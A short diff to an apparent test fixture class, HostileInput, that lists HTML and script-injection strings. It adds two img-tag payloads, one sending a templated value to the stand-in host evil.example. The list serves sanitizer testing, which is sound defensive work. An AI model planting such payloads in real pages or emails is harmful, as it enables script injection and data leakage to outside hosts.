@@ -51,6 +51,8 @@ final class HostileInput {
             "<details open ontoggle=alert(1)>x</details>",
             "<marquee onstart=alert(1)>x</marquee>",
             "<bgsound src=https://evil.example>",
+            "<img src=\"https://evil.example/?{{period}}\">",
+            "<img src=\"{{unsubscribe_url}}\">",
             "<layer src=https://evil.example></layer>",
             "<xml><x></x></xml>",
             "<xmp><p></xmp>",
